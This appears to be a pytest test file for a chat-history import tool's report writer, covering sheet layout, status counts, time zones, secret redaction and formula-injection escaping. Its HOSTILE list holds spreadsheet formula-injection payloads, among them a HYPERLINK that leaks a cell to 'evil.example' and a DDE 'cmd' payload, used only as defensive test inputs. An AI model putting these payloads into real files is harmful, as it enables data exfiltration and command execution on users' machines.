"""Reports: readable sheets, correct counts and hints, formula-safe cells, never a secret."""

from __future__ import annotations

import csv
import datetime as dt
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from bulkimport import codes
from bulkimport.errors import ConfigError
from bulkimport.planning import FAILURE_COLUMNS, Conversation, Plan
from bulkimport.reporting import (
    code_counts,
    conversation_counts,
    error_rows,
    status_counts,
    summary_lines,
    write_report,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-1+1",
    "\t=1+2",
    "\r=3+4",
]


def _sent_frame() -> pd.DataFrame:
    """A frame shaped like bulkimport.send's result: input columns plus the status columns."""
    n = len(HOSTILE) + 3
    idx = pd.Index(range(2, 2 + n), name="row")
    frame = pd.DataFrame(
        {
            "chat.id": ["c1"] * 4 + ["c2"] * (n - 4),
            "user.id": ["u1"] * n,
            "message.text": [*HOSTILE, "plain", "bell\x07char", "ok"],
            "message.date": pd.date_range("2024-01-01", periods=n, freq="h", tz="Europe/Berlin"),
        },
        index=idx,
    )
    status = ["sent"] * n
    code: list[object] = [None] * n
    status[1], code[1] = "failed", "CONNECTOR_PROXY_NO_ADD_USER"
    status[2], code[2] = "unknown", "ambiguous-timeout"
    status[3], code[3] = "pending", None
    status[4], code[4] = "failed", "CONNECTOR_PROXY_NO_ADD_USER"
    frame["import_status"] = status
    frame["import_error_code"] = code
    frame["import_error"] = [None if c is None else f"{c} said no" for c in code]
    frame["import_attempts"] = [1] * n
    frame["b24_chat_id"] = ["1767"] * n
    return frame


@dataclass
class _Summary:
    elapsed: float = 12.5
    messages_per_second: float = 3.25
    stopped_reason: str | None = None
    journal: str = "/tmp/history.journal.sqlite"
    access_token: str = "SECRET-ACCESS-abc123"
    client_secret: str = "SECRET-CLIENT-xyz"


def _all_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_xlsx_report_has_the_three_sheets_frozen_headers_and_widths(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.xlsx", summary=_Summary())
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["rows", "errors", "summary"]
    rows = wb["rows"]
    header = [c.value for c in rows[1]]
    assert header[0] == "row" and header[-1] == "b24_chat_id" and "import_status" in header
    assert rows.max_row == len(_sent_frame()) + 1
    assert rows.freeze_panes == "B2" and wb["errors"].freeze_panes == "A2"
    assert rows.column_dimensions["A"].width >= 8
    assert rows["A1"].font.bold


def test_no_cell_becomes_a_formula_in_xlsx(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.xlsx")
    cells = _all_cells(path)
    assert cells and all(c.data_type != "f" for c in cells)
    texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    for hostile in HOSTILE:  # string cells, exactly as typed (XML turns a bare CR into LF): no prefix
        assert texts[hostile.replace("\r", "\n")] == "s"


def test_hostile_headers_are_neutralised_too(tmp_path):
    frame = pd.DataFrame({"=cmd()": ["x"], "+a": ["@b"]}, index=pd.Index([2], name="row"))
    path = write_report(frame, tmp_path / "out.xlsx")
    assert all(c.data_type != "f" for c in _all_cells(path))
    csv_path = write_report(frame, tmp_path / "out.csv")
    with csv_path.open(encoding="utf-8-sig") as fh:
        header, first = list(csv.reader(fh))[:2]
    assert header[1:3] == ["'=cmd()", "'+a"] and first[2] == "'@b"


def test_no_cell_becomes_a_formula_in_csv(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    texts = [r["message.text"] for r in records]
    for hostile in HOSTILE:
        assert "'" + hostile in texts
    for record in records:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    failed = next(r for r in records if r["import_status"] == "failed")
    assert failed["import_hint"] == codes.hint("CONNECTOR_PROXY_NO_ADD_USER")


def test_counts_per_status_code_and_conversation():
    frame = _sent_frame()
    status = status_counts(frame).set_index("status")["rows"]
    assert status.to_dict() == {"sent": 5, "failed": 2, "invalid": 0, "unknown": 1, "pending": 1}
    by_code = code_counts(frame)
    assert list(by_code["code"][:1]) == ["CONNECTOR_PROXY_NO_ADD_USER"] and by_code["rows"].iloc[0] == 2
    assert by_code["hint"].iloc[0] == codes.hint("CONNECTOR_PROXY_NO_ADD_USER")
    conv = conversation_counts(frame).set_index("conversation")
    assert conv.loc["c1", "rows"] == 4 and conv.loc["c1", "failed"] == 1 and conv.loc["c1", "unknown"] == 1
    assert conv.loc["c2", "sent"] == 4


def test_errors_sheet_lists_every_row_not_sent_with_a_hint(tmp_path):
    frame = _sent_frame()
    errors = error_rows(frame)
    assert sorted(errors["row"]) == sorted(frame.index[frame["import_status"] != "sent"])
    assert all(errors["hint"].str.len() > 10)
    path = write_report(frame, tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(path)["errors"]
    assert ws.max_row == len(errors) + 1


def test_a_plan_without_a_send_reports_invalid_rows_with_field_and_value():
    idx = pd.Index([2, 3, 4], name="row")
    frame = pd.DataFrame({"chat.id": ["a", "a", "b"], "message.text": ["hi", "", "yo"]}, index=idx)
    failures = pd.DataFrame(
        [[3, "message.text", "empty-message", "error", "no text and no files", ""]], columns=FAILURE_COLUMNS
    )
    msgs = ({"user": {"id": "u"}, "message": {"id": "m", "date": 1, "text": "hi"}, "chat": {"id": "a"}},)
    plan = Plan(frame, [Conversation("a", (2,), msgs), Conversation("b", (4,), msgs)], failures)
    status = status_counts(frame, plan).set_index("status")["rows"]
    assert status["invalid"] == 1 and status["pending"] == 2
    errors = error_rows(frame, plan)
    assert len(errors) == 1  # a dry run lists only the invalid rows, not the pending ones
    assert errors.iloc[0][["row", "status", "code", "field"]].tolist() == [
        3,
        "invalid",
        "empty-message",
        "message.text",
    ]
    conv = conversation_counts(frame, plan)
    assert conv["conversation"].tolist() == ["a", "b"]


def test_secrets_never_reach_the_report(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.xlsx", summary=_Summary())
    values = " ".join(str(c.value) for c in _all_cells(path) if c.value is not None)
    assert "SECRET" not in values
    assert "/tmp/history.journal.sqlite" in values and "3.25" in values


def test_summary_lines_name_counts_top_codes_with_hints_and_pace():
    lines = summary_lines(_sent_frame(), summary=_Summary())
    text = "\n".join(lines)
    assert "sent 5" in text and "failed 2" in text and "unknown 1" in text
    assert "CONNECTOR_PROXY_NO_ADD_USER ×2" in text and codes.hint("CONNECTOR_PROXY_NO_ADD_USER") in text
    assert "3.25 messages/s" in text and "SECRET" not in text


def test_odd_values_do_not_break_the_xlsx(tmp_path):
    frame = pd.DataFrame(
        {
            "text": ["a\x00b", "x" * 40000, None],
            "when": [dt.datetime(2024, 1, 1, tzinfo=dt.UTC), pd.NaT, dt.datetime(2024, 1, 2)],
            "n": [1, 2.5, float("nan")],
            "list": [["a", "b"], [], None],
        },
        index=pd.Index([2, 3, 4], name="row"),
    )
    path = write_report(frame, tmp_path / "odd.xlsx")
    ws = openpyxl.load_workbook(path)["rows"]
    assert ws["B2"].value == "a\ufffdb"
    assert len(ws["B3"].value) <= 32767
    assert ws["C2"].value == "2024-01-01 00:00:00+00:00"  # a zone-aware value in a mixed column


@pytest.mark.parametrize("name", ["out.txt", "missing-dir/out.xlsx"])
def test_bad_report_paths_are_one_line_config_errors(tmp_path, name):
    with pytest.raises(ConfigError, match="--report") as info:
        write_report(_sent_frame(), tmp_path / name)
    assert "\n" not in str(info.value)


def test_a_table_longer_than_a_sheet_continues_on_numbered_sheets(tmp_path, monkeypatch):
    """Excel holds 1,048,576 rows per sheet: a longer report (a big migration) continues on
    "rows 2", "rows 3" … each starting with the header again, and no row is lost or repeated."""
    import bulkimport.reporting as report_module

    assert report_module.XLSX_MAX_ROWS == 1_048_576  # Excel's documented sheet limit
    monkeypatch.setattr(report_module, "XLSX_MAX_ROWS", 5)
    n = 13
    frame = pd.DataFrame(
        {
            "Text": [f"=m{i}" for i in range(n)],
            "import_status": ["sent"] * (n - 2) + ["failed"] * 2,
            "import_error_code": [None] * (n - 2) + ["ERROR_ARGUMENT"] * 2,
        },
        index=pd.RangeIndex(2, 2 + n, name="row"),
    )
    path = write_report(frame, tmp_path / "big.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:6] == ["rows", "rows 2", "rows 3", "rows 4", "errors", "summary"]
    assert all(name.startswith("summary ") for name in wb.sheetnames[6:])  # its tables, 5 lines a sheet
    seen: list[object] = []
    for name in ("rows", "rows 2", "rows 3", "rows 4"):
        ws = wb[name]
        lines = list(ws.iter_rows(values_only=True))
        assert lines[0][:2] == ("row", "Text") and ws["A1"].font.bold and ws.freeze_panes == "B2"
        assert 2 <= len(lines) <= 5
        seen += [line[0] for line in lines[1:]]
    assert seen == list(range(2, 2 + n))
    cell = wb["rows 4"]["B2"]
    assert (cell.value, cell.data_type) == ("=m12", "s")  # still a string cell on a continuation sheet
    assert [r[0] for r in wb["errors"].iter_rows(values_only=True)][1:] == [13, 14]


# ------------------------------------------------------------------ #14: reports a person can read
USER_TEXT = ["=1+1", "+7 999 123-45-67", "@x", "-1", "#N/A", "+79161234567"]


def _planned(tmp_path: Path, zone: str = "Europe/Moscow"):
    """A real plan of a small history (one invalid row) and a frame shaped like send()'s result."""
    import bulkimport
    from bulkimport.mapping import Mapping

    df = pd.DataFrame(
        {
            "Chat": ["c1", "c1", "c2", "c2"],
            "Client": ["u1", "u1", "u2", "u2"],
            "Phone": ["8 916 123-45-67", None, "+7 903 000 11 22", None],
            "Date": ["2026-01-01 10:00:07", "2026-01-01 10:01", "2026-01-02 09:00", "not a date"],
            "Text": USER_TEXT[:4],
        },
        index=pd.RangeIndex(2, 6, name="row"),
    )
    m = Mapping(
        columns={
            "chat.id": "Chat",
            "user.id": "Client",
            "user.phone": "Phone",
            "message.date": "Date",
            "message.text": "Text",
        },
        options={"timezone": zone},
    )
    plan = bulkimport.plan(df, m)
    frame = df.copy()
    frame["import_status"] = ["sent", "sent", "failed", "invalid"]
    frame["import_error_code"] = [None, None, "ERROR_ARGUMENT", "bad-date"]
    sent = [1767250807.123456, 1767250867.5, None, None]  # 2026-01-01 07:00:07.123456 UTC
    frame["sent_at"] = pd.to_datetime(pd.Series(sent, index=frame.index, dtype="float64"), unit="s", utc=True)
    return frame, plan


def test_user_text_is_a_string_cell_in_xlsx_and_escaped_only_where_a_formula_starts_in_csv(tmp_path):
    frame = pd.DataFrame(
        {"Text": USER_TEXT, "import_status": ["sent"] * len(USER_TEXT)},
        index=pd.RangeIndex(2, 2 + len(USER_TEXT), name="row"),
    )
    path = write_report(frame, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(path)["rows"]
    got = [(ws.cell(row=i, column=2).value, ws.cell(row=i, column=2).data_type) for i in range(2, 8)]
    assert got == [(t, "s") for t in USER_TEXT]  # as typed: no apostrophe, never a formula or an error
    import zipfile

    with zipfile.ZipFile(path) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    csv_path = write_report(frame, tmp_path / "r.csv")
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        texts = [r["Text"] for r in csv.DictReader(fh)]
    assert texts == ["'=1+1", "'+7 999 123-45-67", "'@x", "-1", "#N/A", "+79161234567"]


def test_times_are_in_the_import_zone_to_the_second_with_the_date_and_phone_as_sent(tmp_path):
    frame, plan = _planned(tmp_path)
    path = write_report(frame, tmp_path / "r.xlsx", plan=plan)
    ws = openpyxl.load_workbook(path)["rows"]
    header = [c.value for c in ws[1]]
    at = {h: i + 1 for i, h in enumerate(header)}
    assert header.index("import_date") < header.index("import_phone") < header.index("import_status")
    assert ws.cell(row=2, column=at["sent_at"]).value == dt.datetime(
        2026, 1, 1, 10, 0, 7
    )  # Moscow, to the second
    assert ws.cell(row=2, column=at["import_date"]).value == dt.datetime(2026, 1, 1, 10, 0, 7)
    assert ws.cell(row=2, column=at["import_phone"]).value == "+79161234567"
    assert ws.cell(row=3, column=at["import_phone"]).value == "+79161234567"  # the customer's, as sent
    assert ws.cell(row=4, column=at["import_phone"]).value == "+79030001122"
    assert ws.cell(row=5, column=at["import_date"]).value is None  # not a date: nothing was parsed
    summary = {
        r[0].value: r[1].value for r in openpyxl.load_workbook(path)["summary"].iter_rows() if r[0].value
    }
    assert summary["times are in"] == "Europe/Moscow"
    csv_path = write_report(frame, tmp_path / "r.csv", plan=plan)
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        first = next(csv.DictReader(fh))
    assert (first["sent_at"], first["import_date"], first["import_phone"]) == (
        "2026-01-01 10:00:07",
        "2026-01-01 10:00:07",
        "+79161234567",
    )


def test_invalid_rows_are_counted_per_conversation(tmp_path):
    frame, plan = _planned(tmp_path)
    table = conversation_counts(frame, plan).set_index("conversation")
    assert table.loc["c2", "rows"] == 2 and table.loc["c2", "invalid"] == 1 and table.loc["c2", "failed"] == 1
    assert table.loc["c1", "sent"] == 2 and table["rows"].sum() == len(frame)


def test_every_run_of_the_journal_is_listed(tmp_path):
    from bulkimport.journal import Journal

    frame, plan = _planned(tmp_path)
    j = Journal.bind(
        tmp_path / "j.db",
        portal="http://127.0.0.1:1/rest/",
        line="1",
        connector="x",
        fingerprint=plan.fingerprint,
    )
    first = j.start_run(1767250800.0)
    j.finish_run(first, 1767250860.4, None, True, 1)
    second = j.start_run(1767254400.0)
    j.finish_run(second, 1767254460.0, None, False, 1)
    j.start_run(1767258000.0)  # killed: never finished
    j.close()
    path = write_report(frame, tmp_path / "r.xlsx", plan=plan, summary={"journal": str(tmp_path / "j.db")})
    lines = [[c.value for c in r][:5] for r in openpyxl.load_workbook(path)["summary"].iter_rows()]
    at = lines.index(["Runs of this journal", None, None, None, None])
    assert lines[at + 1] == ["run", "started", "finished", "sent", "ended"]
    assert lines[at + 2] == [1, "2026-01-01 10:00:00", "2026-01-01 10:01:00", 1, "interrupted"]
    assert lines[at + 3] == [2, "2026-01-01 11:00:00", "2026-01-01 11:01:00", 1, "finished"]
    assert lines[at + 4][0] == 3 and lines[at + 4][-1].startswith("did not finish")


@pytest.mark.parametrize("name", ["p.xlsx", "p.csv"])
def test_write_problems_lists_every_invalid_or_warned_row(tmp_path, name):
    from bulkimport.reporting import PROBLEM_COLUMNS, write_problems

    _, plan = _planned(tmp_path)
    failures = pd.concat([plan.failures] * 30, ignore_index=True)  # more than any screen shows
    path = write_problems(failures, tmp_path / name, mapping=plan.mapping)
    if name.endswith(".csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = [list(r.values()) for r in csv.DictReader(fh)]
            header = PROBLEM_COLUMNS
    else:
        ws = openpyxl.load_workbook(path)["problems"]
        header, *rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert header == PROBLEM_COLUMNS and len(rows) == len(failures)
    bad = next(r for r in rows if r[2] == "bad-date")
    assert [str(bad[0]), bad[1], bad[3], bad[4], bad[5]] == [
        "5",
        "error",
        "message.date",
        "Date",
        "not a date",
    ]
    assert bad[7] == codes.hint("bad-date")
    with pytest.raises(ConfigError, match="--problems"):
        write_problems(failures, tmp_path / "p.txt")


def test_status_rows_lists_rows_of_the_given_statuses_with_chat_time_and_text(tmp_path):
    from bulkimport.journal import Journal, RowUpdate
    from bulkimport.reporting import STATUS_ROW_COLUMNS, status_rows

    _, plan = _planned(tmp_path)
    j = Journal.bind(tmp_path / "j.db", portal="p", line="1", connector="x", fingerprint=plan.fingerprint)
    j.add_rows(
        [
            ("2", 0, 0, "pending", None, None),
            ("3", 0, 1, "pending", None, None),
            ("4", 1, 0, "pending", None, None),
            ("5", None, None, "invalid", "bad-date", None),
        ]
    )
    run = j.start_run(1767250800.0)
    req = j.mark_inflight(["2", "3"], run, 1767250800.0)
    j.settle(
        req,
        [RowUpdate("2", "sent", sent_at=1767250807.0), RowUpdate("3", "failed", "ERROR_ARGUMENT")],
        1767250801.0,
        "ok",
    )
    j.mark_inflight(["4"], run, 1767250802.0)  # killed with it in flight: listed as unknown
    j.close()
    journal = Journal.open(tmp_path / "j.db")
    try:
        table = status_rows(journal, ["unknown", "failed", "invalid"], plan=plan)
        bare = status_rows(journal, ["failed"])
        with pytest.raises(ConfigError, match="--rows lost"):
            status_rows(journal, ["lost"])
    finally:
        journal.close()
    assert list(table.columns) == STATUS_ROW_COLUMNS
    assert table[["row", "status", "code"]].values.tolist() == [
        [3, "failed", "ERROR_ARGUMENT"],
        [4, "unknown", None],
        [5, "invalid", "bad-date"],
    ]
    assert table.loc[0, "chat"] == "c1" and table.loc[0, "time"] == "2026-01-01 10:01:00"
    assert table.loc[0, "text"] == "+7 999 123-45-67" and table.loc[2, "chat"] == "c2"
    assert bare[["row", "status"]].values.tolist() == [[3, "failed"]]


def test_journal_lines_list_every_run():
    from bulkimport.reporting import journal_lines

    runs = [
        {"id": 1, "started_at": 1767250800.0, "finished_at": 1767250860.0, "interrupted": True, "sent": 3},
        {"id": 2, "started_at": 1767254400.0, "finished_at": 1767254460.0, "sent": 5},
    ]
    summary = {"counts": {"sent": 8}, "runs": runs, "complete": True, "portal": "p", "line": 1}
    lines = journal_lines(summary, "j.db")
    assert "  run 1: 2026-01-01 07:00:00 – 2026-01-01 07:01:00 UTC, sent 3, interrupted" in lines
    assert "  run 2: 2026-01-01 08:00:00 – 2026-01-01 08:01:00 UTC, sent 5, finished" in lines
